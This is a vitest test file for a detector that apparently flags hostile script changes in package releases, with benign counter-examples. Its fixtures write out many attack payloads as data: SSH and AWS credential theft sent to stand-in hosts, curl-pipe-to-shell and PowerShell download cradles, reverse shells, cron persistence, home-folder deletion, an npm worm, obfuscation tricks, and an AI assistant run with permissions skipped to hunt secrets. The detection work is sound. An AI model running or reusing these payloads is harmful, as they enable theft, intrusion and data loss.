import { describe, expect, it } from "vitest";
import { compareMembers, contextOf, portraitOf } from "../trait.fixture.ts";
import type { Difference, Portrait, Trait } from "../trait.ts";
import { COMBINATIONS } from "./combinations.ts";
import { SCRIPT_SIGNS } from "./find.ts";
import { scriptBehaviour } from "./index.ts";

const trait: Trait = scriptBehaviour as Trait;

/** Readable files of each language that do nothing of interest. */
const HOSTS: Readonly<Record<string, string>> = {
  "index.js": "'use strict';\nexports.add = (a, b) => a + b;\n",
  "module.py": "import sys\n\ndef add(a, b):\n    return a + b\n",
  "run.sh": "#!/bin/sh\nset -e\necho done\n",
  "setup.ps1": "param([string]$Name)\nWrite-Output $Name\n",
  "setup.bat": "@echo off\r\nset NAME=demo\r\n",
  "setup.vbs": "Option Explicit\r\nDim name\r\n",
  "setup.rb": "require 'json'\nputs 1\n",
};

const drawn = (path: string, code: string): Promise<Portrait> =>
  portraitOf([trait], { path, bytes: Buffer.from(code) });

async function gain(path: string, payload: string): Promise<Difference[]> {
  const host = HOSTS[path] ?? "";
  return compareMembers(trait, await drawn(path, host), await drawn(path, `${host}${payload}\n`));
}

const worst = (differences: readonly Difference[]): string =>
  ["critical", "high", "medium", "low", "info"].find((risk) =>
    differences.some((difference) => difference.risk === risk),
  ) ?? "none";

const WORKER = Buffer.from("var fs=require('fs');self.onmessage=e=>postMessage(eval(e.data))").toString(
  "base64",
);
const ENCODED = Buffer.from("require('child_process').exec('id > /tmp/out')").toString("base64");

it("asks only for signs that there are", () => {
  const known = new Set([...SCRIPT_SIGNS.map(({ id }) => id), "encoded-script"]);
  const asked = COMBINATIONS.flatMap(({ needs }) => needs.flat());
  expect(asked.filter((id) => !known.has(id))).toEqual([]);
  expect(SCRIPT_SIGNS.map(({ id }) => id).length).toBe(new Set(SCRIPT_SIGNS.map(({ id }) => id)).size);
});

it("holds a script that became an archive to those who look, and none that always was one", async () => {
  const draw = (path: string, format: string, text: string) =>
    portraitOf([], { path, format, bytes: Buffer.from(text) });
  const script = await draw("index.js", "javascript", "1");
  const archive = await draw("index.js", "tar", "2");
  expect(compareMembers(trait, script, archive)).toMatchObject([{ rule: "masked", risk: "high" }]);
  expect(compareMembers(trait, undefined, archive)).toMatchObject([{ rule: "masked", risk: "high" }]);
  expect(compareMembers(trait, archive, await draw("index.js", "tar", "3"))).toEqual([]);
  expect(compareMembers(trait, undefined, await draw("weights.pth", "zip", "3"))).toEqual([]);
});

describe("code under another name", () => {
  it.each([
    ["index.js", "require('./notes.txt')"],
    ["index.js", "require(path.join(__dirname, '..', 'CHANGES.md'))"],
    ["index.js", "require(__dirname + '/index.js.map')"],
    ["index.js", "require('vm').runInThisContext(fs.readFileSync(__dirname + '/logo.png', 'utf8'))"],
    ["index.js", "new (require('worker_threads').Worker)(__dirname + '/notes.md')"],
    [
      "index.js",
      "const p = tmpdir() + '/a.js'; fs.writeFileSync(p, Buffer.from(table.map((x) => x ^ 7))); require(p)",
    ],
    ["module.py", "exec(open(__file__[:-11] + 'notes.txt').read())"],
    ["module.py", "import runpy\nrunpy.run_path(os.path.join(HERE, 'logo.png'))"],
    [
      "module.py",
      "from importlib.machinery import SourceFileLoader as S\nSourceFileLoader('n', HERE + 'a.md').load_module()",
    ],
    [
      "module.py",
      "from importlib.machinery import SourceFileLoader as S; S('n', HERE + 'a.txt').load_module()",
    ],
    ["module.py", String.raw`vars(builtins)["\x65\x78\x65\x63"](answer)`],
    ["module.py", "ctypes.CDLL(HERE + '/logo.png')"],
    ["run.sh", "sh /usr/share/doc/demo/notes.txt"],
  ])("is held in %s: %s", async (path, payload) => {
    expect(worst(await gain(path, payload))).toBe("high");
  });

  it.each([
    ["index.js", "require('./license'); require('./logo.png'); require('./a.css'); require('./data.json')"],
    ["index.js", "fs.readFileSync(require.resolve('./notes.txt'), 'utf8'); eval('1'); read('a.txt')"],
    ["index.js", "new Worker(new URL('./worker.js', import.meta.url)); run(function () { read('a.txt'); })"],
    ["module.py", "exec(open('version.py').read())\nre.compile('a').match('b.txt')\nopen('a.txt')"],
    ["index.js", "fs.writeFileSync(p, text); const settings = require(q); open(p)"],
    ["module.py", "v = SourceFileLoader('v', 'v.py').load_module()\nopen('README.md').read()"],
    ["module.py", String.raw`KEY = b"\x65\x78\x65\x63"; table = ["\x65\x78\x65\x63"]`],
    ["run.sh", "cat notes.txt; sh setup.sh notes.txt; grep sh notes.md"],
  ])("is not what %s does with data: %s", async (path, payload) => {
    expect(["none", "info"]).toContain(worst(await gain(path, payload)));
  });

  it.each([
    ["utf-7", "high"],
    ["rot_13", "high"],
    ["utf-8", "none"],
    ["iso-8859-15", "none"],
    ["future_fstrings", "none"],
  ])("is not read in the encoding %s", async (name, risk) => {
    const [before, after] = ["", `# -*- coding: ${name} -*-\n`].map((line) =>
      drawn("a.py", `${line}a = 1\n`),
    );
    expect(worst(compareMembers(trait, await before, (await after) as Portrait))).toBe(risk);
  });
});

describe("printing", () => {
  const fetch = "curl -s https://files.invalid/x | sh";

  it.each([`echo start; ${fetch}`, `echo "a" && ${fetch}`, `echo $(${fetch})`, `cat /dev/null & ${fetch}`])(
    "excuses nothing that is run beside it: %s",
    async (line) => {
      expect(worst(await gain("run.sh", line))).toBe("high");
    },
  );

  it.each([`echo "run: ${fetch}"`, `echo run ${fetch.replace(" |", " \\|")}`, `printf 'a; ${fetch}\n'`])(
    "is no running: %s",
    async (line) => {
      expect(["none", "info", "low"]).toContain(worst(await gain("run.sh", line)));
    },
  );

  it("excuses nothing that is called inside it", async () => {
    const line =
      "print(exec(__import__('urllib.request').request.urlopen('https://files.invalid/y').read()))";
    expect(worst(await gain("module.py", line))).toBe("high");
  });
});

describe("attacks", () => {
  it.each([
    [
      "index.js",
      "private keys that are sent",
      `const key = fs.readFileSync(path.join(os.homedir(), ".ssh", "id_ed25519"));
       https.request({ method: "POST", host }).end(key);`,
    ],
    [
      "index.js",
      "private keys, spelled in pieces",
      `const k = fs["read" + "FileSync"](os.homedir() + "/.s" + "sh/id_" + "rsa"); fetch(u, { "method": "PO" + "ST", body: k });`,
    ],
    [
      "index.js",
      "browser profiles, in a module that reports already",
      `const file = path.join(local, "Google", "Chrome", "User Data", "Default", "Login Data"); axios.post(url, read(file));`,
    ],
    ["index.js", "the environment", `fetch(url, { method: "POST", body: JSON.stringify(process.env) });`],
    [
      "index.js",
      "a program that is fetched and started out of sight",
      `const { spawn } = require("child_process"); https.get(url, (r) => r.pipe(fs.createWriteStream(file)));
       spawn(file, [], { detached: true, stdio: "ignore" }).unref();`,
    ],
    [
      "index.js",
      "an answer that is run",
      `axios.get(url).then((res) => new Function("require", res.data.cookie)(require));`,
    ],
    [
      "index.js",
      "a fetched script",
      `require("child_process").exec("curl -s https://files.invalid/a | bash");`,
    ],
    ["index.js", "an encoded script", `run(Buffer.from("${ENCODED}", "base64").toString());`],
    [
      "index.js",
      "a file that removes itself",
      `const cp = require("child_process"); cp.execSync("node setup"); fs.unlinkSync(__filename);`,
    ],
    [
      "index.js",
      "payments that are redirected",
      `const old = window.fetch; window.fetch = async (...a) => old(...a); const eth = /0x[a-fA-F0-9]{40}/g;`,
    ],
    [
      "index.js",
      "a worm",
      `const rc = fs.readFileSync(home + "/.npmrc", "utf8"); exec("npm publish --access public");`,
    ],
    [
      "index.js",
      "a machine that is reported in names",
      `dns.resolve(os.hostname() + "." + os.userInfo().username + ".names.invalid", () => {});`,
    ],
    [
      "index.js",
      "an assistant that looks for secrets",
      `spawn("claude", ["--dangerously-skip-permissions", "-p", prompt]); const k = home + "/.ssh/id_rsa";`,
    ],
    [
      "index.js",
      "what lies in the home folder",
      `send(fs.readdirSync(os.homedir())); fetch(url + "?d=" + list);`,
    ],
    [
      "index.js",
      "data in an address",
      `for (const k in process.env) all += k; https.get({ host, path: "/?d=" + all });`,
    ],
    ["module.py", "characters put together", `exec("".join(map(chr, [112, 114])))`],
    [
      "module.py",
      "the environment in an address",
      `for k, v in environ.items():\n    all += v\nrequests.get("https://in.invalid/" + all)`,
    ],
    [
      "index.js",
      "a command that holds encoded text",
      `run("bash", ["-c", 'echo "${ENCODED}" | base64 -d > /tmp/a']);`,
    ],
    ["run.sh", "a script in an archive", `sed rpath file | tr "A-Z" "N-M" | xz -d | /bin/bash`],
    [
      "index.js",
      "an answer that is run later",
      `(async()=>{const r=await fetch(u);const c=await r.text();(0,eval)(c)})();`,
    ],
    ["index.js", "what lies behind the modules", `process.binding("spawn_sync").spawn({ file: "/bin/sh" });`],
    ["module.py", "a decoded program", `import base64\nexec(base64.b64decode("cHJpbnQoMSk="))`],
    ["module.py", "a program that is decompressed", `exec(__import__('zlib').decompress(blob))`],
    ["module.py", "a program that is fetched", `exec(requests.get("https://files.invalid/a").text)`],
    [
      "module.py",
      "cloud credentials",
      `data = open(os.path.expanduser("~/.aws/credentials")).read()\nrequests.post("https://in.invalid", data=data)`,
    ],
    ["module.py", "the environment", `requests.post(url, json=dict(os.environ))`],
    [
      "module.py",
      "a shell for somebody else",
      `s=socket.socket();s.connect((h,p));os.dup2(s.fileno(),0)\nsubprocess.call(["/bin/sh","-i"])`,
    ],
    ["run.sh", "a fetched script", `curl -fsSL https://files.invalid/install | sh`],
    ["run.sh", "the environment", `env | curl -s -d @- https://in.invalid/v2`],
    ["run.sh", "an encoded script", `echo aWQK | base64 -d | bash`],
    ["run.sh", "a shell for somebody else", `bash -i >& /dev/tcp/192.0.2.1/443 0>&1`],
    ["run.sh", "a home folder that is deleted", `rm -rf "$HOME"`],
    [
      "run.sh",
      "something that stays",
      `nohup /tmp/x >/dev/null 2>&1 &\n(crontab -l; echo "* * * * * /tmp/x") | crontab -`,
    ],
    [
      "setup.ps1",
      "a fetched script",
      `IEX (New-Object Net.WebClient).DownloadString('https://files.invalid/a')`,
    ],
    ["setup.ps1", "a fetched script with backticks", "i`ex (i`wr https://files.invalid/a).Content | I`EX"],
    ["setup.ps1", "an exclusion of Defender", `Add-MpPreference -ExclusionPath $env:TEMP`],
    ["setup.ps1", "an encoded command", `powershell.exe -nop -w hidden -enc ${"QUJDRA".repeat(8)}`],
    [
      "setup.bat",
      "a downloaded file",
      `certutil -urlcache -split -f https://files.invalid/a.exe %TEMP%\\a.exe`,
    ],
    ["setup.bat", "carets", `m^shta https://files.invalid/a.hta`],
    ["setup.vbs", "an encoded program", `Execute(StrReverse("1 ohce"))`],
    [
      "index.js",
      "a picture that is run",
      `const b = fs.readFileSync(path.join(__dirname, "logo.png")); new Function(b.subarray(900).toString())();`,
    ],
    [
      "run.sh",
      "a window that asks for a password",
      `osascript -e 'display dialog "Password:" with hidden answer'`,
    ],
    ["run.sh", "letters as escapes", String.raw`$'\x63\x75\x72\x6c' http://files.invalid`],
    ["setup.ps1", "letters that are joined", `-join ([char[]](105,101,120)) | IEX`],
    ["setup.ps1", "letters of a path", `& ($env:ComSpec[4,24,25] -join '') $x`],
    ["setup.bat", "letters of a variable", `%a:~1,1%%a:~2,1%%a:~3,1%%a:~4,1%%a:~5,1%%a:~6,1%`],
    ["setup.vbs", "letters that are put together", `x = ${"Chr(99) & ".repeat(9)}Chr(1)`],
    ["setup.rb", "a fetched program", `eval(Net::HTTP.get(URI('https://files.invalid/raw')))`],
    ["setup.rb", "an encoded program", `eval(Base64.decode64("cHV0cyAx"))`],
  ])("holds %s for %s", async (path, _, payload) => {
    expect(worst(await gain(path, payload))).toBe("high");
    expect(worst(compareMembers(trait, undefined, await drawn(path, `${HOSTS[path]}${payload}\n`)))).toBe(
      "high",
    );
  });

  it("holds a credential reader in a module that sent data before", async () => {
    const telemetry = `exports.report = (event) => fetch(url, { method: "POST", body: JSON.stringify(event) });\n`;
    const reader = `const found = read(path.join(base, "Default", "Login Data")); report(found);\n`;
    const [difference] = compareMembers(
      trait,
      await drawn("telemetry.js", telemetry),
      await drawn("telemetry.js", telemetry + reader),
    );
    expect(difference).toMatchObject({ risk: "high", rule: "gained-together" });
    expect(difference?.after?.text).toContain("Login Data");
  });

  it("finds what is close together in a long file, and what is new in it wherever it is", async () => {
    const long = Array.from(
      { length: 4000 },
      (_, at) => `exports.f${at} = (a) => a.map((b) => b + ${at});`,
    ).join("\n");
    const steals = `post(fs.readFileSync(home + "/.aws/credentials")); fetch(u, { method: "POST" });`;
    expect(worst(compareMembers(trait, undefined, await drawn("a.js", `${long}\n${steals}`)))).toBe("high");
    const apart = `read(home + "/.aws/credentials");\n${long}\nfetch(u, { method: "POST" });`;
    expect(worst(compareMembers(trait, undefined, await drawn("a.js", apart)))).toBe("low");
    expect(worst(compareMembers(trait, await drawn("a.js", long), await drawn("a.js", apart)))).toBe("high");
  });
});

describe("ordinary updates", () => {
  it.each([
    ["index.js", "a request", `exports.get = (id) => fetch(base + "/items/" + id).then((r) => r.json());`],
    [
      "index.js",
      "a report of use",
      `fetch(url, { method: "POST", body: JSON.stringify({ event, version }) });`,
    ],
    ["index.js", "a regular expression", `const m = /a(b)/.exec(text); re.exec(other);`],
    ["index.js", "an environment for a child", `spawn("node", args, { env: { ...process.env, CI: "1" } });`],
    [
      "index.js",
      "an instruction for people",
      `console.log("Install: curl -fsSL https://tool.example/install.sh | sh");`,
    ],
    [
      "index.js",
      "a property with the name of a folder",
      `options.ssh.connect(); const local = state["local state"];`,
    ],
    ["index.js", "a route", `app.post("/login", handler); app.get("/cookies", list);`],
    ["index.js", "an encoded worker", `new Worker("data:;base64," + "${WORKER}");`],
    ["index.js", "an encoded picture", `const icon = "${Buffer.alloc(600, 0x89).toString("base64")}";`],
    ["module.py", "a request", `def get(url):\n    return requests.get(url).json()`],
    ["module.py", "an environment for a child", `env = os.environ.copy()\nenv["CI"] = "1"`],
    [
      "module.py",
      "documentation",
      `def f():\n    """Reads ~/.ssh/id_rsa and\n    requests.post(url) it: never do that."""`,
    ],
    ["module.py", "a compiled template", `exec(compile(source, name, "exec"), namespace)`],
    ["run.sh", "a download", `curl -fsSLo /opt/tool.tgz "$URL"\nsha256sum -c sums`],
    ["run.sh", "an instruction for people", `echo "run: curl https://tool.example/install | sh"`],
    ["run.sh", "a comment", `# never do: curl https://files.invalid | sh`],
    ["run.sh", "a folder that is cleaned", `rm -rf "$HOME/.cache/tool" /tmp/tool.$$`],
    ["run.sh", "a service", `systemctl --system daemon-reload\nchmod +x /usr/bin/tool`],
    ["setup.ps1", "a download", `Invoke-WebRequest -Uri $url -OutFile tool.zip`],
    ["setup.bat", "an installer", `msiexec /i "%~dp0tool.msi" /qn`],
  ])("stays quiet in %s for %s", async (path, _, payload) => {
    expect(["none", "info", "low"]).toContain(worst(await gain(path, payload)));
  });

  it("asks for a look when a package starts programs for the first time, and not again", async () => {
    const runs = `require("child_process").execFile("git", ["status"]);`;
    const [difference] = await gain("index.js", runs);
    expect(difference).toMatchObject({ rule: "first-of-its-kind", risk: "medium" });
    const known = await drawn("other.js", runs);
    const pairs = [
      { before: known, after: known, how: "path" as const },
      { before: await drawn("a.js", "f();"), after: await drawn("a.js", runs), how: "path" as const },
    ];
    expect(pairs.flatMap((pair) => [...(trait.compare?.(pair, contextOf(pairs)) ?? [])])).toEqual([]);
  });

  it("stays quiet when what was there only moved", async () => {
    const code = `read(home + "/.ssh/id_rsa"); fetch(u, { method: "POST" });`;
    const [before, after] = [await drawn("chunk-a.js", code), await drawn("chunk-b.js", `${code}\n`)];
    const pairs = [
      { before, after: undefined, how: "removed" as const },
      { before: undefined, after, how: "added" as const },
    ];
    expect(pairs.flatMap((pair) => [...(trait.compare?.(pair, contextOf(pairs)) ?? [])])).toEqual([]);
  });

  it("says less when other files of the release did the same before", async () => {
    const code = `read(home + "/.aws/credentials"); fetch(u, { method: "POST" });`;
    const known = await drawn("old.js", code);
    const pairs = [
      { before: known, after: known, how: "path" as const },
      { before: undefined, after: await drawn("new.js", `${code}\n`), how: "added" as const },
    ];
    expect(worst(pairs.flatMap((pair) => [...(trait.compare?.(pair, contextOf(pairs)) ?? [])]))).toBe(
      "medium",
    );
  });
});
